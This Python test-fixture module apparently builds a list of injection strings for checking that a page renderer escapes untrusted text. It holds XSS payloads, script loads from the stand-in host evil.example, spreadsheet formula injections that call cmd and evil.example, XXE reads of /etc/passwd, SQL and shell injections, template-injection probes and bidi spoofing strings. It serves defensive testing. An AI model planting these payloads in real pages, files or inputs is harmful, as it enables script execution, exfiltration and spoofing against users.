"""Texts that would be obeyed if anything took them for more than text: by what each is aimed at.

All of them are texts that a reader of the page may see, so *read* lets them in; characters that cannot be
shown (NUL, escape, lone surrogates) are refused there and have tests of their own. ``alert`` opens a dialog
and ``//evil.example`` would be asked for, so that a test sees whether any of them was obeyed.
"""

from __future__ import annotations

from itertools import product

_RUN = "alert(1)"
_HOST = "//evil.example/x"

#: What ends the place that a text stands in, and what runs once it has.
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "]]>",
    "</svg>",
    "*/",
    "`>",
)
_RUNNERS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<script src={_HOST}></script>",
)

_TAGS = (
    f"<IMG SRC={_HOST}>", f"<image src={_HOST}>", f"<video poster={_HOST}></video>",
    f"<audio src={_HOST} autoplay>", f"<embed src={_HOST}>", f"<object data={_HOST}></object>",
    f"<link rel=stylesheet href={_HOST}>", f"<base href={_HOST}>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>", "<form action=//evil.example>",
    "<input type=submit value=x>", "<button formaction=javascript:alert(1)>x",
    f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>", "<template><b>x</template>",
    f"<details open ontoggle={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>", f"<body onload={_RUN}>",
    f"<video><source onerror={_RUN}></video>", f"<math><mtext><img src=x onerror={_RUN}>", "<plaintext>",
    "<xmp>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!-- comment -->", "<!--",
    "<!doctype html>", "<?xml version='1.0'?>", "<?php echo 1 ?>", "<![CDATA[<b>x</b>]]>", "<b", "<",
    "</", "<>", "</p>", "</article></li>", "<h1>", "<b>bold</b>", "<i>x", "<br>", "<br/>", "<p>x</p>",
    "<q>x</q>", "<table><td>", "<tr>", "<li>", "<option>", "</select><b>x", "</option>", "</details>",
    "<style>*{display:none}</style>", f"<style>@import '{_HOST}'</style>", "<custom-element>",
    "<dialog open>x</dialog>", "<slot>", "<frameset>", "<bdo dir=rtl>abc</bdo>", "<ruby>x<rt>y",
    "<object><param name=x></object>", f"<isindex action={_HOST}>", f"<script\t>{_RUN}</script\t>",
    f"<scr<script>ipt>{_RUN}", f"<<script>{_RUN}//<</script>", f"<script/src={_HOST}>",
    f"<img/src=x/onerror={_RUN}>", f"<img src='x'onerror={_RUN}>", f"<svg/onload={_RUN}>",
    f"<ScRiPt>{_RUN}</sCrIpT>", f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e", "\u226e", "<\u0338b>",
    f"\u02c2script\u02c3{_RUN}", f"\u2039script\u203a{_RUN}", "\ufe64b\ufe65", "<\u200bscript>",
    "<\u00a0img>",
)  # fmt: skip

_ON = ("click", "mouseover", "focus", "load", "error", "toggle", "animationstart", "pointerenter", "wheel")
_HANDLERS = (
    *(f"{mark} on{name}={_RUN} x={mark}" for mark, name in product(('"', "'"), _ON)),
    '" autofocus tabindex=1 onfocus=alert(1) x="', '" style="position:fixed;inset:0" x="', '" class="x',
    '" id="tl-data', '" href="javascript:alert(1)', "' href='javascript:alert(1)", '" target="x',
    '" data-event="x', '"', "'", '""', "\"'", "x' y", 'x" y', "x` y", "x=y", '"/>', "'/>", '"><', '\\"',
    "\\'", "\\", "\\\\", "x\\", "a\\n", "\\u003cb\\u003e", "\\x3cb\\x3e",
)  # fmt: skip

_SCRIPTS = (
    f"</script><script>{_RUN}//", f"</SCRIPT><svg onload={_RUN}>", "</script ", "</script/", "</scrip",
    "<!--<script>", "<!--<script></script>", "--><!--<script>", "<script><!--", f"'-{_RUN}-'",
    f'"-{_RUN}-"', f"';{_RUN};//", f'";{_RUN};//', f"\\';{_RUN};//", f"${{{_RUN}}}", f"`${{{_RUN}}}`",
    f"'+{_RUN}+'", f"}};{_RUN};{{", f"]);{_RUN};([", "__proto__", "constructor", "prototype", "toString",
    "hasOwnProperty", "{\"__proto__\":{\"x\":1}}", "constructor.prototype.x", "undefined", "null", "NaN",
    "Infinity", "True x", "[object Object]", "0", "-0", "1e309", "\u2028alert(1)\u2029", "a\u2028b",
    "c\u2029d", "//evil.example", "/*", "*/alert(1)/*", "\\u2028", "&quot;);alert(1)//",
    "javascript:alert(1)", f"JaVaScRiPt:{_RUN}", "java&#9;script:alert(1)", "java\tscript:alert(1)",
    "&#106;avascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:null/x", "file:///etc/passwd",
    "ftp://evil.example/", "http://evil.example/", "https://evil.example", "www.evil.example",
    "//evil.example/x", "/\\evil.example", "mailto:a@evil.example", "tel:+1", "\\\\evil.example\\share",
    "view-source:x", "filesystem:x", "intent://x", "about:blank",
)  # fmt: skip

_SVG = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><set onbegin={_RUN} attributeName=x>",
    f"<svg><image href={_HOST} /></svg>", f"<svg><use href='{_HOST}#x'/></svg>",
    "<svg><foreignObject><b>x</b></foreignObject></svg>", "<svg><style>*{fill:red}</style></svg>",
    "</text><text>", "</tspan>", "<tspan>x</tspan>", "</a></svg>", "<title>x</title>", "</g>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;", "<!DOCTYPE svg [<!ENTITY x 'y'>]>",
    "<?xml-stylesheet href='//evil.example'?>", "<svg xmlns='http://www.w3.org/2000/svg'>",
    "url(#tl-fade)", f"url({_HOST})", f"fill:url({_HOST})", "]]>", "<![CDATA[", "<desc>x</desc>",
    "<symbol>", f"<discard onbegin={_RUN}>", "<mpath href=#x>", "<feImage href=//evil.example/x />",
    "x\ufffdy", "x\U0001fffd", "x\ue000", "x\U000f0000", "x\U0010fffd",
)  # fmt: skip

_PLOTLY = (
    "<a href='https://evil.example'>x</a>", '<a href="javascript:alert(1)">x</a>',
    "<a href='//evil.example' target=_self>x</a>", "<a xlink:href='//evil.example'>x</a>",
    "<A HREF='//evil.example'>x</A>", "<b>x</b>", "<i>x</i>", "<em>x</em>", "<strong>x</strong>",
    "<sub>x</sub>", "<sup>x</sup>", "<br>x", "x<br>y", "x<br />y", "x<BR>y",
    "<span style='color:red'>x</span>", "<span style='font-size:90px'>x</span>",
    f"<span style='background:url({_HOST})'>x</span>", "<s>x</s>", "<u>x</u>", "<extra></extra>",
    "x<extra>y</extra>", "<extra>", "</extra>", "%{x}", "%{y}", "%{text}", "%{hovertext}",
    "%{customdata}", "%{customdata[0]}", "%{meta}", "%{meta.labels[0]}", "%{x|%Y}", "%{y:.2f}",
    "%{fullData.name}", "%{", "%%{x}", "% {x}", "%&#123;x}", "&#37;{x}", "%\\{x}", "%{_xother}",
    "%{label}", "%{x!r}", "$\\alpha$", "$\\href{javascript:alert(1)}{x}$", "$x$", "$5bn to $7bn", "$$x$$",
    "\\(x\\)", "\\[x\\]", "&lt;b&gt;x&lt;/b&gt;", "&amp;lt;b&amp;gt;",
    "&lt;a href='//evil.example'&gt;x&lt;/a&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&nbsp;x", "&times;",
    "&mu;", "&deg;", "&", "&&", "&amp;", "&amp", "&lt", "&copy", "&notit;", "&#0;", "&#x110000;",
    "&#xd800;", "&unknown;", "AT&T", "<popup>", "<a href='x' popup='width=1'>x</a>",
    "<a target='_parent'>x</a>", "trace 0", "Click to enter Plot title", "\u200bx", "_x0000_",
)  # fmt: skip

_CSS = (
    "}</style><b>x", "x{}", "} * {display:none} {", "</style>", "<style>", "expression(alert(1))",
    f"@import '{_HOST}';", f"url({_HOST})", f"background:url({_HOST})", f"';background:url({_HOST});'",
    f'";background:url({_HOST});"', "\\3c b\\3e", "\\22 ", "\\", "\\a", "\\0", "/*", "*/", "<!--", "-->",
    "var(--x)", "!important", "behavior:url(x)", "-moz-binding:url(x)", ";position:fixed", "#fff;}",
    "rgb(0,0,0)", "attr(href)", "content:'x'", "{", "}", ":root{--paper:red}", "@media", "@charset 'x';",
    "calc(1px)", "env(x)", "image-set('//evil.example')",
)  # fmt: skip

_FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.example\";\"x\")",
    "=IMPORTXML(\"//evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")", "+cmd|x!A1",
    "-2+3+cmd|x!A1", "@x", "=", "+", "-", "@", "'=1", "''=1", "\"=1", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff201", "\u200b=1+1", "\ufe62\u0031", "(=1)", "1=1", "x,y", "x;y", 'x,"y"', 'x""y', "x|y", "%0a=1",
    "\u22121", "\u00ad=1", "DDE(\"x\")", "=1\u2028=2", "\u2212=1", "={1}", "=A1:B2", "-1",
    "+44 20 7946 0000", "--x", "==x",
)  # fmt: skip

_CALENDARS = (
    "x\\nATTENDEE:mailto:a@evil.example", "BEGIN:VEVENT", "END:VCALENDAR", "x;y", "x,y", "x\\,y", "x\\;y",
    "x\\\\n", "x:y", "URL:http://evil.example", 'ALTREP="http://evil.example":x',
    "X-ALT-DESC;FMTTYPE=text/html:<b>x", "BEGIN:VALARM", "^n", "^'", "^^", "\\N", "x\u2028END:VEVENT",
    "x\u2029ATTENDEE:y", "\ud55c" * 60, "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 12, "e\u0301" * 70,
)  # fmt: skip

_TERMINALS = (
    "\\x1b[31mred", "\\e[2J", "\\033]0;x\\a", "^[[A", "\\r", "\\b\\b\\b", "%1b[31m", "\u241b[31m",
    "\u2028x", "::error::x", "##[error]x", "::set-output name=x::y", "[red]x[/red]", "\u00adx",
    "x\u00adx", "{red}", "%n", "%s%s%s",
)  # fmt: skip

_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
_DIRECTIONS = (
    *(text.replace("_", sign) for sign, text in product(_CONTROLS, ("abc_def", "_<b>x</b>", "abc_"))),
    "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd abc",
    "abc \u0645\u0631\u062d\u0628\u0627 <b>", "\u202e\u2066//\u2069\u2066", "\u061c12",
    "user\u202etxt.exe", "\u202eevil\u202c", "\u2067x\u2069\u2069\u2069y", "\u0660\u0661",
    "\u05d0\u202e<\u05d1>",
)  # fmt: skip

_TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{% endraw %}", "{# x #}", "{{ config }}", "{{ ''.__class__ }}",
    "{% include 'page.css' %}", "{{ timeline }}", "{{", "}}", "{%", "%}", "{# ", "<%= 7*7 %>", "<% x %>",
    "#{7*7}", "${7*7}", "*{7*7}", "@{x}", "[[x]]", "[(x)]", "{{{x}}}", "{0}", "{}", "{x}", "{title}",
    "{x.__class__}", "{n}", "{all}", "{0!r}", "{:>99}", "%s", "%d", "%n", "%x", "%(title)s", "%(num)s",
    "%(", "%", "%%", "100%", "50 % off", "%99999d", "%p%p%p", "%c", "%1$s", "$title", "$1", "$&", "$`",
    "$'", "$$", "$<x>", "~{x}", "!{x}", "\\1", "\\g<0>", "\\0", "`id`", "$(id)", "; ls", "| ls", "&& ls",
    "' OR 1=1 --", "'; DROP TABLE x; --", "*)(uid=*", "../../etc/passwd", "..\\..\\x", "/etc/passwd",
    "C:\\x", "CON", "NUL", "a/b", ".", "..", "~", "\\begin{x}", "\\input{x}", "[x](javascript:alert(1))",
    "![x](//evil.example/x)", "# x", "* x", "> x", "```x```", "~~x~~", "__x__", "| x |",
    "[[//evil.example|x]]", "<https://evil.example>", "\\documentclass", "@article{x,", "---", "...",
    "!!python/object:x", "&a", "*a", "<<", "? x", "- x", ": x", "x: y", "x #y", "#x", "@x", "`x`", "%x",
    "!x", "|", ">", "[", "]", "[x", "{x", "'x", '"x', "null", "~x", "on", "off", "12:30", "1_000", "0x1F",
    "0o7", ".nan", ".inf", "2025-02-17", "=x", "<<x>>",
)  # fmt: skip

_ODDITIES = (
    "\u0130", "\u0131", "\u00df", "\ufb03", "\u01c5", "\u212a", "\u017f", "A\u030a", "\u1e9b\u0323",
    "e\u0301", "\u0301x", "Z\u0351\u036b\u0343\u0363" * 4, "\u200bx", "x\u200by", "\u200cx", "x\u200dy",
    "\u2060x", "\ufeffx", "x\ufeffy", "x\u00a0y", "x\u3000y", "x\u2003y", "x\u180ey", "\u034fx",
    "\u115fx", "\u3164x", "\u2800x", "\U0001f469\u200d\U0001f52c", "\U0001f1fa\U0001f1e6",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\u2764\ufe0f", "\U0001f44d\U0001f3fd", "\U000e0041x",
    "\U0001d4d0\U0001d4d1", "\u24d0\u24d1", "\uff21\uff22", "\u2460", "\u00b2", "\u2155", "\u216b",
    "\ufdfa", "\u0e49" * 9 + "x", "\u0f3c\u0f3d", "\u30c4", "\u65e5\u672c\u8a9e",
    "\u7530\u4e2d\u3055\u3093", "\uc0ac\ud68c", "\u0b85\u0bae\u0bcd\u0bae\u0bbe",
    "\u0928\u092e\u0938\u094d\u0924\u0947", "\u1000\u103c", "\u10e6", "\u16a0", "\u4db5\U00020000",
    "\U0001f600" * 40, "x" * 2000, "x " * 400, "\u2014", "\u2026", "\u201cx\u201d", "\u00abx\u00bb",
    "\u2019", "\u02bc", "\u2010", "\u2011", "\u2044", "\u2215", "\u29f8", "\uff0f", "\u037e", "\u0589",
    "\u2236", "\ua789", "x\ty", "x  y", "a\u0332b", "\u20dd\u0041", "\u0489x", "\U0001d173x", "\u206ax",
    "\ufff9x\ufffay\ufffb", "\ufffc", "\ufffd",
)  # fmt: skip

#: What each is aimed at -> the texts.
AIMED_AT = {
    "html": (*_TAGS, *map("".join, product(_BREAKS, _RUNNERS))),
    "attributes": _HANDLERS,
    "scripts": _SCRIPTS,
    "svg": _SVG,
    "plotly": _PLOTLY,
    "css": _CSS,
    "spreadsheets": _FORMULAS,
    "calendars": _CALENDARS,
    "terminals": _TERMINALS,
    "direction": _DIRECTIONS,
    "templates": _TEMPLATES,
    "unicode": _ODDITIES,
}

#: Every text once.
ATTACKS = tuple(dict.fromkeys(text for texts in AIMED_AT.values() for text in texts))
